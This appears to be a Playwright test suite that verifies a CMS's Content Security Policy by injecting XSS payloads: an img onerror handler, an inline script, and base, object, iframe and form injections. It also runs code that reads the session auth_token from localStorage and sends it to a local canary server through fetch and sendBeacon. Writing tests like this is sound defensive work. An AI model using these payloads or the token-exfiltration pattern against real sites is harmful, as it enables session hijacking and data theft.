import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { signIn } from './cms.ts';
import { ADDRESSES } from './routes.ts';
import { expect, test } from './test.ts';

/** Runs XSS attempts in the CMS, and answers their outcomes. */
const attack = (page: Page, elsewhere: string) =>
  page.evaluate(async (address) => {
    const blocked: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      blocked.push(effectiveDirective),
    );
    const place = document.body.appendChild(document.createElement('div'));
    place.innerHTML = '<img src="/cms/nothing.png" onerror="window.ran = true">';
    const tried = new Promise((resolve) =>
      place.querySelector('img')!.addEventListener('error', resolve),
    );
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    place.append(script);
    const token = localStorage.getItem('auth_token');
    await fetch(`${address}/?${token}`, { mode: 'no-cors' }).catch(() => {});
    navigator.sendBeacon(`${address}/?${token}`);
    await tried;
    // Violations are told in tasks of their own, in their order.
    await new Promise((resolve) => setTimeout(resolve));
    place.remove();
    return { ran: 'ran' in window, blocked: [...new Set(blocked)].toSorted(), token };
  }, elsewhere);

for (const isGuarded of [true, false])
  test(`a script in the CMS ${isGuarded ? 'neither runs nor tells the session to anybody' : 'would run without the policy'}`, async ({
    browser,
    baseURL,
  }) => {
    const asked: string[] = [];
    const canary = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    }).listen(0, '127.0.0.1');
    await once(canary, 'listening');
    const elsewhere = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;

    const context = await browser.newContext({ baseURL: baseURL!, bypassCSP: !isGuarded });
    const page = await context.newPage();
    await signIn(page);
    const { ran, blocked, token } = await attack(page, elsewhere);
    expect(token).toMatch(/^eyJ/);
    expect(ran).toBe(!isGuarded);
    expect(blocked).toEqual(isGuarded ? ['connect-src', 'script-src-attr', 'script-src-elem'] : []);
    expect(asked.length > 0).toBe(!isGuarded);
    await context.close();
    canary.close();
  });

const DIRECTIVES = [
  "default-src 'none'",
  "base-uri 'none'",
  "connect-src 'self'",
  "form-action 'self'",
  "object-src 'none'",
];

/** Runs XSS attempts in a public page, and answers the blocked ones. */
const attackPage = (page: Page, elsewhere: string) =>
  page.evaluate(async (address) => {
    const blocked: string[] = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      blocked.push(effectiveDirective),
    );
    const place = document.body.appendChild(document.createElement('div'));
    place.innerHTML = `<base href="${address}/"><object data="${address}/object"></object><iframe src="${address}/frame"></iframe><form method="post" action="${address}/form"><input name="phone" value="01712345678"></form>`;
    await fetch(`${address}/fetch`, { mode: 'no-cors' }).catch(() => {});
    place.querySelector('form')!.submit();
    const waited = performance.now();
    while (!blocked.includes('form-action') && performance.now() < waited + 5_000)
      await new Promise((resolve) => setTimeout(resolve, 50));
    return { blocked: [...new Set(blocked)].toSorted(), base: document.baseURI };
  }, elsewhere);

test.describe('the policy of a page', () => {
  let page: Page;
  // One for all: a page keeps nothing that the next address would be judged by.
  test.beforeAll(async ({ browser }) => {
    page = await browser.newPage();
    await page.addInitScript(() => {
      const violations: string[] = [];
      Object.assign(window, { violations });
      addEventListener('securitypolicyviolation', (event) =>
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
      );
    });
  });
  test.afterAll(() => page.context().close());

  for (const { path } of ADDRESSES)
    test(`${path} works by a policy that begins with nothing`, async () => {
      await page.goto(path);
      await page.mouse.wheel(0, 20_000);
      await page.waitForLoadState('networkidle');
      const policy = page.locator('meta[http-equiv="content-security-policy"]');
      const content = (await policy.getAttribute('content')) ?? '';
      for (const directive of DIRECTIVES) expect(content).toContain(directive);
      expect(content).not.toMatch(/unsafe|script-src[^;]*https?:/);
      expect(await page.evaluate(() => Reflect.get(window, 'violations'))).toEqual([]);
    });
});

test('markup of somebody else sends nothing from a public page to anybody', async ({ page }) => {
  const asked: string[] = [];
  const canary = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  }).listen(0, '127.0.0.1');
  await once(canary, 'listening');
  await page.goto('/contact');
  const elsewhere = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  const { blocked, base } = await attackPage(page, elsewhere);
  expect(blocked).toEqual(['base-uri', 'connect-src', 'form-action', 'frame-src', 'object-src']);
  expect(base).toMatch(/\/contact$/);
  expect(asked).toEqual([]);
  canary.close();
});
